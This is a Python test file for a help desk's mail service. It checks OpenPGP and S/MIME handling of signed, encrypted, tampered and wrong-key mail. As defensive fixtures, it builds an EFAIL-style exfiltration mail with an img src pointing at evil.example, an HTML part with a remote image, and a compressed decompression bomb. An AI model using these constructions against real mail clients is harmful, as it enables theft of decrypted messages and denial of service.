#!/usr/bin/env python3
"""OpenPGP and S/MIME with keys that gpg, gpgsm and openssl made: signed, encrypted,
tampered with, opened with the wrong key, with a key that comes later."""
# tests/run: timeout 600
import base64
import os
import re
import shutil
import subprocess
import tempfile
from email import policy
from email.parser import BytesParser
from pathlib import Path

import harness

QUEUE = "support@desk.example"
ADA = "ada@customer.example"
SECRET = "the code of the safe is 4711"
ENTITY = ("Content-Type: text/plain; charset=utf-8\r\n\r\n" + SECRET + "\r\n").encode()
HTML = (b"Content-Type: text/html; charset=utf-8\r\n\r\n<p>the code of the safe is 4711</p>"
        b"<img src=\"http://evil.example/x\">\r\n")


class Keys:
    """A GnuPG home with OpenPGP keys, and S/MIME certificates made by openssl."""

    def __init__(self, directory):
        # Its agent's socket wants a short path.
        self.home = Path(tempfile.mkdtemp(prefix="pgp-", dir="/tmp"))
        self.directory = harness.folder(directory)
        self.n = 0

    def stop(self):
        subprocess.run(["gpgconf", "--homedir", self.home, "--kill", "all"], check=False)
        shutil.rmtree(self.home, ignore_errors=True)

    def file(self, content, mode=0o644):
        self.n += 1
        path = self.directory / f"file{self.n}"
        harness.write(path, content)
        path.chmod(mode)
        return path

    def gpg(self, *argv, data=b""):
        return subprocess.run(
            ["gpg", "--homedir", self.home, "--batch", "--pinentry-mode", "loopback",
             "--trust-model", "always", *argv], input=data, capture_output=True,
            check=True).stdout

    def make(self, address, passphrase=""):
        self.gpg("--passphrase", passphrase, "--quick-generate-key",
                 f"Key of {address} <{address}>", "future-default", "default", "never")

    def public(self, address):
        return self.file(self.gpg("--armor", "--export", address))

    def secret(self, address, passphrase=""):
        return self.file(self.gpg("--armor", "--passphrase", passphrase,
                                  "--export-secret-keys", address))

    def openssl(self, *argv, data=b""):
        return subprocess.run(["openssl", *map(str, argv)], input=data,
                              capture_output=True, check=True).stdout

    def authority(self):
        key, cert = self.directory / "ca.key", self.directory / "ca.pem"
        self.openssl("req", "-x509", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
                     "-out", cert, "-days", "30", "-subj", "/CN=Desk CA", "-addext",
                     "keyUsage=critical,keyCertSign,cRLSign")
        return cert

    def certificate(self, name, address):
        """(certificate, key) of an address, by the authority."""
        key, cert = self.directory / f"{name}.key", self.directory / f"{name}.pem"
        request, extra = self.directory / "request", self.directory / "extensions"
        self.openssl("req", "-new", "-newkey", "rsa:2048", "-nodes", "-keyout", key,
                     "-out", request, "-subj", f"/CN={name}/emailAddress={address}")
        extra.write_text(f"basicConstraints=CA:FALSE\nsubjectAltName=email:{address}\n"
                         "keyUsage=digitalSignature,keyEncipherment\n"
                         "extendedKeyUsage=emailProtection\n")
        self.openssl("x509", "-req", "-in", request, "-CA", self.directory / "ca.pem",
                     "-CAkey", self.directory / "ca.key", "-CAcreateserial", "-days", "30",
                     "-out", cert, "-extfile", extra)
        return cert, key

    def pkcs12(self, cert, key, password):
        path = self.directory / "key.p12"
        self.openssl("pkcs12", "-export", "-in", cert, "-inkey", key, "-certfile",
                     self.directory / "ca.pem", "-out", path, "-passout",
                     f"pass:{password}", "-keypbe", "PBE-SHA1-3DES", "-certpbe",
                     "PBE-SHA1-3DES", "-macalg", "sha1")  # as gpgsm 2.2 can read
        path.chmod(0o644)
        return path


def mail(content_type, body, subject="a secret", sender=ADA, **headers):
    fields = {"From": sender, "To": QUEUE, "Subject": subject,
              "Message-ID": f"<{os.urandom(8).hex()}@customer.example>",
              "Date": "Fri, 27 Nov 2026 10:00:00 +0000", "MIME-Version": "1.0",
              "Content-Type": content_type}
    fields |= {k.replace("_", "-"): v for k, v in headers.items()}
    head = "".join(f"{k}: {v}\r\n" for k, v in fields.items())
    return head.encode() + b"\r\n" + body


def crlf(data):
    return re.sub(rb"\r?\n", b"\r\n", data)


def part(content_type, body):
    return b"--b\r\nContent-Type: " + content_type + b"\r\n\r\n" + crlf(body) + b"\r\n"


def pgp_encrypted(cipher, encoding=b"7bit", **more):
    return mail('multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b',
                part(b"application/pgp-encrypted", b"Version: 1")
                + part(b"application/octet-stream\r\nContent-Transfer-Encoding: "
                       + encoding, cipher) + b"--b--\r\n", **more)


def pgp_signed(entity, signature, **more):
    return mail('multipart/signed; protocol="application/pgp-signature"; boundary=b',
                b"--b\r\n" + entity + b"\r\n" + part(b"application/pgp-signature", signature)
                + b"--b--\r\n", **more)


class Crypto(harness.TestCase):
    def setUp(self):
        super().setUp()
        self.keys = Keys(self.servers.path("keys"))
        self.servers.callback(self.keys.stop)
        self.desk = self.servers.desk(agents=["anna@desk.example"])

    def add(self, *argv):
        done = self.desk.maild("key", "add", *argv, check=False)
        self.assertEqual(done.returncode, 0, done.stderr)
        return done.stdout

    def crypto(self, subject="a secret", timeout=30):
        """messages.crypto of the mail with this subject, once it is there."""
        return harness.wait_until(
            lambda: self.desk.sql(f"SELECT * FROM messages WHERE subject = '{subject}'"),
            timeout, f"the message {subject}")[0]

    def notice(self, n=1, **choice):
        """The text and the HTML of the n-th notice to the agent."""
        found = self.desk.wait_mails(n, to="anna@desk.example", **choice)[-1]
        message = BytesParser(policy=policy.default).parsebytes(found.raw)
        return tuple(message.get_body([kind]).get_content() for kind in ("plain", "html"))

    def homes(self, below=""):
        """Where keys lie while they are used: a folder of the process, one a mail in it."""
        return list(self.desk.directory.glob("postern-crypto-*" + below))

    def encrypt(self, data=ENTITY, to=QUEUE, *argv):
        return self.keys.gpg("--armor", *argv, "--encrypt", "-r", to, data=data)

    # --- OpenPGP ----------------------------------------------------------------------

    def test_pgp_encrypted_and_signed(self):
        self.keys.make(QUEUE, "pass phrase%")
        self.keys.make(ADA)
        secret = self.keys.secret(QUEUE, "pass phrase%")
        wrong = self.desk.maild("key", "add", secret, "--queue", QUEUE, check=False)
        self.assertNotEqual(wrong.returncode, 0)
        self.assertIn("--passphrase-file", wrong.stderr)
        self.add(secret, "--queue", QUEUE, "--passphrase-file",
                 self.keys.file("pass phrase%\n"))
        self.add(self.keys.public(ADA), "--tenant", "desk.example")
        stored = self.desk.sql("SELECT kind, queue_id IS NOT NULL AS of_queue, addresses, "
                               "position('private-key'::bytea IN sealed_secret) > 0 "
                               "AS open FROM crypto_keys ORDER BY kind")
        self.assertEqual(stored, [
            {"kind": "person", "of_queue": False, "addresses": [ADA], "open": None},
            {"kind": "secret", "of_queue": True, "addresses": [QUEUE], "open": False}])

        self.desk.accept(pgp_encrypted(self.encrypt(ENTITY, QUEUE, "--sign", "-u", ADA)))
        message = self.crypto()
        crypto = message["crypto"]
        self.assertEqual(
            (crypto["encrypted"], crypto["decrypted"], crypto["signature"]),
            (True, True, "verified"), crypto)
        self.assertEqual(message["text"].strip(), SECRET)
        text, html = self.notice()
        self.assertIn("Encrypted (OpenPGP); the desk decrypted it.", text)
        self.assertIn(f"Signed by Key of {ADA} <{ADA}>, verified", text)
        for words in (text, html, *(m.raw.decode() for m in self.desk.mails())):
            self.assertNotIn("4711", words)
        link = re.search(r"http://\S+/attachments/(\S+)", text)[1]
        self.desk.start_portal()
        status, _, body = self.desk.http(f"/attachments/{link}")
        self.assertEqual(status, 200)
        self.assertIn(SECRET.encode(), body)
        exported = self.desk.maild("export", "1").stdout
        self.assertIn("X-Postern-Protection: encrypted, decrypted; signature verified, "
                      f"Key of {ADA} <{ADA}>", exported)
        self.assertEqual(len(self.homes()), 1)
        self.assertFalse(self.homes("/*"))

    def test_pgp_signatures(self):
        self.keys.make(ADA)
        self.keys.make("eve@evil.example")
        signature = self.keys.gpg("--armor", "--detach-sign", "-u", ADA, data=ENTITY[:-2])
        self.desk.accept(pgp_signed(ENTITY[:-2], signature, subject="not known yet"))
        self.assertEqual(self.crypto("not known yet")["crypto"]["signature"], "unknown")
        added = self.add(self.keys.public(ADA), "--tenant", "desk.example")
        self.assertIn("1 mails will be looked at again", added)
        harness.wait_until(lambda: self.crypto("not known yet")["crypto"]["signature"]
                           == "verified", 20, "the signature to be verified")

        self.desk.accept(pgp_signed(ENTITY[:-2], signature, subject="good"))
        message = self.crypto("good")
        self.assertEqual(message["crypto"]["signature"], "verified")
        self.assertFalse(message["crypto"]["opened"])
        self.assertEqual(self.desk.value(
            f"SELECT count(*) FROM parts WHERE message_id = '{message['id']}' "
            "AND NOT is_body"), 0)
        bad = ENTITY[:-2].replace(b"4711", b"4712")
        self.desk.accept(pgp_signed(bad, signature, subject="tampered"))
        self.assertEqual(self.crypto("tampered")["crypto"]["signature"], "bad")
        self.assertIn("THE SIGNATURE IS BAD", self.notice(3)[0])
        self.assertIn("4712", self.notice(3)[0])  # a signed mail is no secret
        eves = self.keys.gpg("--armor", "--detach-sign", "-u", "eve@evil.example",
                             data=ENTITY[:-2])
        self.desk.accept(pgp_signed(ENTITY[:-2], eves, subject="by eve"))
        self.assertEqual(self.crypto("by eve")["crypto"]["signature"], "unknown")
        # Armour that says MESSAGE, and is signed only: not to be shown as encrypted.
        signed = self.keys.gpg("--armor", "--sign", "-u", ADA, data=b"for all to read\n")
        self.desk.accept(mail("text/plain", crlf(signed), subject="signed message"))
        message = self.crypto("signed message")
        self.assertEqual((message["crypto"]["encrypted"], message["crypto"]["signature"]),
                         (False, "verified"), message["crypto"])
        self.assertEqual(message["text"].strip(), "for all to read")
        stored = self.keys.gpg("--armor", "--store", data=b"for all to read\n")
        self.desk.accept(mail("text/plain", crlf(stored), subject="neither"))
        message = self.crypto("neither")
        self.assertFalse(message["crypto"]["decrypted"], message["crypto"])
        clear = self.keys.gpg("--clear-sign", "-u", ADA, data=b"hello in clear\n")
        self.desk.accept(mail("text/plain; charset=utf-8", crlf(clear), subject="inline"))
        message = self.crypto("inline")
        self.assertEqual(message["crypto"]["signature"], "verified")
        self.assertEqual(message["text"].strip(), "hello in clear")

    def test_key_added_later(self):
        self.keys.make(QUEUE)
        self.keys.make("other@desk.example")
        self.add(self.keys.secret("other@desk.example"), "--queue", QUEUE)
        self.desk.accept(pgp_encrypted(self.encrypt()))
        message = self.crypto()
        self.assertEqual((message["crypto"]["encrypted"], message["crypto"]["decrypted"]),
                         (True, False))
        self.assertIn("could not be decrypted: none of the desk's keys opens it",
                      self.notice()[0])
        self.assertIn("1 mails", self.add(self.keys.secret(QUEUE), "--queue", QUEUE))
        harness.wait_until(lambda: self.crypto()["crypto"]["decrypted"], 30, "decrypted")
        message = self.crypto()
        self.assertEqual(message["text"].strip(), SECRET)
        self.assertEqual([t["number"] for t in self.desk.tickets()], [1])
        text = self.notice(2)[0]
        self.assertIn("the desk decrypted it", text)
        self.assertNotIn("4711", text)
        self.assertEqual(len(self.desk.find_mails(to=ADA)), 1)  # acknowledged once
        listed = self.desk.maild("key", "list").stdout
        fingerprint = re.search(r"(\w{40})  secret openpgp, support@desk.example\n"
                                r"  Key of support@", listed)[1]
        self.desk.maild("key", "remove", fingerprint)
        self.assertNotIn(fingerprint, self.desk.maild("key", "list").stdout)

    def test_bomb_damage_and_efail(self):
        self.keys.make(QUEUE)
        self.add(self.keys.secret(QUEUE), "--queue", QUEUE)
        bomb = self.encrypt(b"Content-Type: text/plain\r\n\r\n" + bytes(60 << 20), QUEUE,
                            "--compress-algo", "zlib")
        self.assertLess(len(bomb), 1 << 20)
        cipher = self.encrypt()
        damaged = self.keys.gpg("--dearmor", data=cipher)
        damaged = damaged[:-30] + bytes([damaged[-30] ^ 1]) + damaged[-29:]
        inner = (b"Content-Type: multipart/encrypted; boundary=b\r\n\r\n"
                 + part(b"application/pgp-encrypted", b"Version: 1")
                 + part(b"application/octet-stream", cipher) + b"--b--\r\n")
        efail = mail("multipart/mixed; boundary=o",
                     b'--o\r\nContent-Type: text/html\r\n\r\n<img src="http://evil.example/'
                     b"\r\n--o\r\n" + inner
                     + b'\r\n--o\r\nContent-Type: text/html\r\n\r\n">\r\n--o--\r\n',
                     subject="efail")
        self.desk.accept(pgp_encrypted(bomb, subject="bomb"))
        self.desk.accept(pgp_encrypted(base64.encodebytes(damaged), b"base64",
                                       subject="damaged"))
        self.desk.accept(efail)
        self.desk.accept(harness.mail("plain", "not delayed"))
        crypto = self.crypto("efail")["crypto"]
        self.assertEqual((crypto["whole"], crypto["decrypted"]), (False, False))
        self.assertNotIn("4711", self.crypto("efail")["text"])
        for subject, why in (("bomb", "larger than 50 MB"), ("damaged", "changed on the way")):
            crypto = self.crypto(subject)["crypto"]
            self.assertFalse(crypto["decrypted"], (subject, crypto))
            self.assertIn(why, crypto["problem"])
        self.assertEqual(self.desk.value("SELECT count(*) FROM unsealings "
                                         "WHERE opened IS NOT NULL"), 0)
        self.crypto("plain")
        self.desk.accept(pgp_encrypted(self.encrypt(HTML), subject="html"))
        message = self.crypto("html")
        self.assertEqual(message["text"].strip(), SECRET)

    def test_the_process_dies_each_time(self):
        self.keys.make(QUEUE)
        secret = self.keys.secret(QUEUE)
        bomb = self.encrypt(b"Content-Type: text/plain\r\n\r\n" + bytes(60 << 20))
        self.add(secret, "--queue", QUEUE)
        self.desk.accept(pgp_encrypted(bomb, subject="bomb"))
        for n in range(1, 4):
            # It is at work while it has children: gpg.
            harness.wait_until(
                lambda: (pid := self.desk.jobs().get("crypto")) and harness.children(pid),
                40, f"try {n}", pause=0.01)
            self.desk.kill("crypto")
            self.assertEqual(self.desk.value("SELECT tries FROM unsealings"), n)
            if n == 1:
                self.desk.accept(harness.mail("plain", "not delayed"))
                self.crypto("plain", timeout=5)
        crypto = self.crypto("bomb", timeout=60)["crypto"]
        self.assertEqual((crypto["encrypted"], crypto["decrypted"]), (True, False))
        self.assertIn("took too much time", crypto["problem"])
        self.assertIn("could not be decrypted", self.notice(2)[0])
        # Nothing of the dead stays: no home with keys, no agent.
        self.assertEqual(len(self.homes()), 1)
        self.assertFalse(self.homes("/*"))
        self.assertIn("1 mails", self.add(secret, "--queue", QUEUE))
        harness.wait_until(lambda: "larger than" in
                           (self.crypto("bomb")["crypto"]["problem"] or ""), 30, "again")

    def test_an_agents_encrypted_answer(self):
        self.keys.make(QUEUE)
        self.add(self.keys.secret(QUEUE), "--queue", QUEUE)
        self.desk.accept(harness.mail("help", "help me"))
        notice = self.desk.wait_mail(to="anna@desk.example")
        reply_to = notice.message["Reply-To"]
        address = re.search(r"[\w.+-]+@desk\.example", str(reply_to))[0]
        answer = pgp_encrypted(self.encrypt(), subject="Re: help", sender="anna@desk.example")
        self.desk.accept(answer, to=address, sender="anna@desk.example")
        message = self.crypto("Re: help")
        self.assertTrue(message["is_note"])
        transcript = self.desk.wait_mails(2, to="anna@desk.example")[-1]
        self.assertIn("kept as a note", transcript.text)
        self.desk.wait_sent()
        for sent in self.desk.mails():
            self.assertNotIn(b"4711", sent.raw)

    def test_carried_when_allowed(self):
        self.desk.stop()
        with open(self.desk.config, "a", encoding="utf-8") as file:
            file.write("\n[crypto]\ncarry_decrypted = yes\n")
        self.desk.start()
        self.keys.make(QUEUE)
        self.add(self.keys.secret(QUEUE), "--queue", QUEUE)
        self.desk.accept(pgp_encrypted(self.encrypt()))
        text = self.notice()[0]
        self.assertIn(SECRET, text)
        self.assertIn("the desk decrypted it", text)

    # --- S/MIME -----------------------------------------------------------------------

    def smime(self, *argv, data):
        """A mail by openssl, with our header."""
        made = self.keys.openssl("cms", *argv, data=data)
        head, _, body = crlf(made).partition(b"\r\n\r\n")
        fields = BytesParser(policy=policy.compat32).parsebytes(head + b"\r\n\r\n")
        return fields["Content-Type"].replace("\n", " ").replace("\r", ""), body, {
            k: v for k, v in fields.items() if k.lower() == "content-transfer-encoding"}

    def send_smime(self, made, **more):
        content_type, body, headers = made
        self.desk.accept(mail(content_type, body, **more, **headers))

    def test_smime(self):
        ca = self.keys.authority()
        mine = self.keys.certificate("support", QUEUE)
        ada = self.keys.certificate("ada", ADA)
        sign = ["-sign", "-signer", ada[0], "-inkey", ada[1]]
        self.send_smime(self.smime(*sign, data=ENTITY), subject="not trusted yet")
        self.assertEqual(self.crypto("not trusted yet")["crypto"]["signature"], "unknown")
        self.assertIn("1 mails", self.add(ca, "--tenant", "desk.example", "--authority"))
        harness.wait_until(lambda: self.crypto("not trusted yet")["crypto"]["signature"]
                           == "verified", 20, "the signature to be verified")
        self.add(self.keys.pkcs12(*mine, "p12 secret"), "--queue", QUEUE,
                 "--passphrase-file", self.keys.file("p12 secret"))

        self.send_smime(self.smime(*sign, data=ENTITY), subject="detached")
        self.send_smime(self.smime(*sign, data=ENTITY), subject="mismatch",
                        sender="bob@customer.example")
        self.send_smime(self.smime(*sign, "-nodetach", data=ENTITY), subject="opaque")
        content_type, body, headers = self.smime(*sign, data=ENTITY)
        self.send_smime((content_type, body.replace(b"4711", b"4712"), headers),
                        subject="tampered")
        signed = crlf(self.keys.openssl("cms", *sign, data=ENTITY))
        self.send_smime(self.smime("-encrypt", "-aes256", mine[0], data=signed),
                        subject="both")
        self.send_smime(self.smime("-encrypt", "-aes256", ada[0], data=ENTITY),
                        subject="for ada")
        for subject, signature in (("detached", "verified"), ("mismatch", "mismatch"),
                                   ("opaque", "verified"), ("tampered", "bad"),
                                   ("both", "verified")):
            message = self.crypto(subject)
            self.assertEqual(message["crypto"]["signature"], signature,
                             (subject, message["crypto"]))
            self.assertIn("the code of the safe", message["text"], subject)
        self.assertTrue(self.crypto("both")["crypto"]["decrypted"])
        crypto = self.crypto("for ada")["crypto"]
        self.assertEqual((crypto["encrypted"], crypto["decrypted"]), (True, False))


if __name__ == "__main__":
    harness.main()
